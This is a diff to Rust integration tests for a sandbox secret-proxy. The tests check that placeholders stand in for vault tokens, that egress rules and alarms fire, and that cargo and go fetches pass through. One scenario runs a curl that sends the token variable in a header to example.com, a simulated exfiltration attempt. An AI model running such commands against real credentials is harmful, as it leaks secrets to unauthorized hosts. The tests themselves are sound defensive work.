@@ -11,12 +11,15 @@ pub(crate) fn add_to(scenarios: &mut Scenarios<'_>) {
     scenarios.add("git_takes_the_way_out_with_a_token", git);
     scenarios.add("large_bodies_and_websockets_take_the_way_out", large_bodies_and_websockets);
     scenarios.add("packages_and_nothing_else_take_the_way_out", packages);
+    scenarios.add("cargo_and_go_take_the_way_out_and_trust_it", cargo_and_go);
     scenarios.add("the_way_out_never_leads_inside", no_way_inside);
     scenarios.add("a_placeholder_is_worth_something_on_its_own_way_out_only", placeholders);
 }
 
 /// A name that only the stack's vault-proxy knows.
 pub(crate) const SITE: &str = "site.test";
+/// One without a provider's shape, so that its placeholder has the platform's own.
+const OTHER_TOKEN: &str = "real-value-of-the-other-session-11";
 const TOKEN: &str = "glpat-realTokenOfTheRepository42";
 
 /// A site with a repository, and a team that may reach it.
@@ -41,8 +44,12 @@ impl Ground {
 
     /// Opens a session with one secret for the site, in a variable of this name.
     pub(crate) async fn session(&self, name: &str) -> anyhow::Result<String> {
+        self.session_with(name, TOKEN).await
+    }
+
+    async fn session_with(&self, name: &str, value: &str) -> anyhow::Result<String> {
         let hosts = [self.host.clone()];
-        let secret = Secret { name, value: TOKEN, hosts: &hosts, also_in: &[] };
+        let secret = Secret { name, value, hosts: &hosts, also_in: &[] };
         let vault = self.client.create_vault(&[secret]).await?;
         self.client.open_session_with(&self.client.create_agent().await?, &[&vault]).await
     }
@@ -92,7 +99,7 @@ async fn large_bodies_and_websockets(house: Shared) -> anyhow::Result<()> {
     // Without any knowledge of proxies: the name has an address, and the address has a way.
     let (name, port) = host.split_once(':').context("no port")?;
     let socket = format!(
-        "python3 -c 'import os, socket, ssl; s = ssl.create_default_context().wrap_socket(socket.create_connection((\"{name}\", {port})), server_hostname=\"{name}\"); s.sendall(b\"GET /socket HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nAuthorization: Bearer \" + os.environb[b\"SITE_TOKEN\"] + b\"\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n\"); print(s.recv(4096).split(b\"\\r\\n\")[0].decode()); s.sendall(b\"to and fro\"); print(s.recv(100).decode())' 2>&1"
+        "python3 -c 'import os, socket, ssl; s = ssl.create_default_context().wrap_socket(socket.create_connection((\"{name}\", {port})), server_hostname=\"{name}\"); s.sendall(b\"GET /socket HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nAuthorization: Bearer \" + os.environb[b\"SITE_TOKEN\"] + b\"\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n\"); print(s.recv(4096).split(b\"\\r\\n\")[0].decode()); s.sendall(b\"\\x81\\x0ato and fro\"); print(s.recv(100)[2:].decode())' 2>&1"
     );
     let printed = client.run(&session, &socket).await?;
     ensure!(printed.contains("101") && printed.contains("to and fro"), "{printed}");
@@ -130,6 +137,41 @@ async fn packages(house: Shared) -> anyhow::Result<()> {
         |host: &str| decisions.iter().find(|it| it["host"] == host).map(|it| &it["verdict"]);
     ensure!(about("registry.npmjs.org").is_some_and(|it| it == "allowed"), "{decisions:?}");
     ensure!(about("example.com").is_some_and(|it| it == "denied"), "{decisions:?}");
+    Ok(())
+}
+
+/// What each tool asks first of a registry, which is as far as this site goes: by then it has trusted the way out and taken it.
+const ASKED_FIRST: [(&str, &str, &str); 2] = [
+    (
+        "cargo",
+        "mkdir -p /tmp/crate/src && cd /tmp/crate && : > src/lib.rs && printf '[package]\\nname = \"a\"\\nversion = \"1.0.0\"\\n[dependencies]\\ntiny = { version = \"1\", registry = \"site\" }\\n' > Cargo.toml && \
+         CARGO_HOME=/tmp/cargo CARGO_REGISTRIES_SITE_INDEX=sparse+https://HOST/crates/ cargo fetch",
+        "/crates/config.json",
+    ),
+    (
+        "go",
+        "GOPROXY=https://HOST/modules GONOSUMDB='*' GOTOOLCHAIN=local GOCACHE=/tmp/go GOMODCACHE=/tmp/modules go mod download example.test/tiny@v1.0.0",
+        "/modules/example.test/tiny/@v/v1.0.0.info",
+    ),
+];
+
+async fn cargo_and_go(house: Shared) -> anyhow::Result<()> {
+    let house = house.lock().await;
+    let ground = Ground::prepare(&house, "/").await?;
+    let session = ground.session("SITE_TOKEN").await?;
+    let Ground { client, host, site, .. } = &ground;
+    for (tool, command, first) in ASKED_FIRST {
+        let command = command.replace("HOST", host);
+        let path = "PATH=$PATH:/usr/local/go/bin:/usr/local/cargo/bin";
+        let told = format!("export {path}; command -v {tool} || echo absent; {command} 2>&1");
+        let printed = client.run(&session, &told).await?;
+        if printed.starts_with("absent") {
+            eprintln!("{tool} is not where a sandbox sees it on this machine: not tried");
+            continue;
+        }
+        let has_asked = site.arrived().iter().any(|it| it.target == first);
+        ensure!(has_asked, "{tool} did not ask for {first}: {printed}");
+    }
     Ok(())
 }
 
@@ -178,14 +220,25 @@ async fn placeholders(house: Shared) -> anyhow::Result<()> {
     let one = ground.session("SITE_TOKEN").await?;
     let placeholder = client.run(&one, "printenv SITE_TOKEN").await?.trim().to_owned();
     ensure!(placeholder.len() > 16 && !placeholder.contains(TOKEN), "{placeholder}");
-    // In another session the same text is any text.
-    let other = ground.session("SITE_TOKEN").await?;
+    // In another session it stands for nothing.
+    let other = ground.session_with("OTHER_TOKEN", OTHER_TOKEN).await?;
     let ask = |text: &str| {
         format!("curl -sS -H 'Authorization: Bearer {text}' https://{host}/echo 2>&1; echo")
     };
     client.run(&other, &ask(&placeholder)).await?;
     let arrived: Vec<String> = site.arrived().iter().map(Arrived::text).collect();
     ensure!(!arrived.iter().any(|head| head.contains(TOKEN)), "{arrived:?}");
+    // Where there is room for a mark in it, it is known there as well, for what it is.
+    let marked = client.run(&other, "printenv OTHER_TOKEN").await?.trim().to_owned();
+    let printed = client.run(&one, &ask(&marked)).await?;
+    ensure!(printed.contains("another session"), "{printed}");
+    let log = client.log(&one).await?;
+    let alarm = log.iter().find(|event| event["type"] == "session.alarm").cloned();
+    ensure!(alarm.as_ref().is_some_and(|it| it["host"] == SITE), "{alarm:?}");
+    let egress = client.get(&format!("/v1/sessions/{one}/egress")).await?;
+    let denied = |it: &Value| it["code"] == "foreign_placeholder" && it["verdict"] == "denied";
+    let is_listed = egress["data"].as_array().is_some_and(|it| it.iter().any(denied));
+    ensure!(is_listed, "{egress}");
     // In its own it is replaced, and the answer does not give the value away, now or later.
     let printed = client.run(&one, &ask(&placeholder)).await?;
     ensure!(site.arrived().iter().any(|it| it.text().contains(TOKEN)), "{printed}");
@@ -197,8 +250,11 @@ async fn placeholders(house: Shared) -> anyhow::Result<()> {
         client.run(&one, "curl -sS -H \"X-A: $SITE_TOKEN\" http://example.com/ 2>&1; echo").await?;
     ensure!(printed.contains("SITE_TOKEN"), "{printed}");
     let log = client.log(&one).await?;
-    let alarm = log.iter().find(|event| event["type"] == "session.alarm").cloned();
-    ensure!(alarm.as_ref().is_some_and(|it| it["kind"] == "placeholder_misused"), "{alarm:?}");
+    let about = |host: &str| {
+        let is_it = |event: &&Value| event["type"] == "session.alarm" && event["host"] == host;
+        log.iter().find(is_it).map(|event| &event["kind"])
+    };
+    ensure!(about("example.com").is_some_and(|it| it == "placeholder_misused"), "{log:?}");
     ensure!(!Value::from(log).to_string().contains(TOKEN), "the log holds the value");
     Ok(())
 }
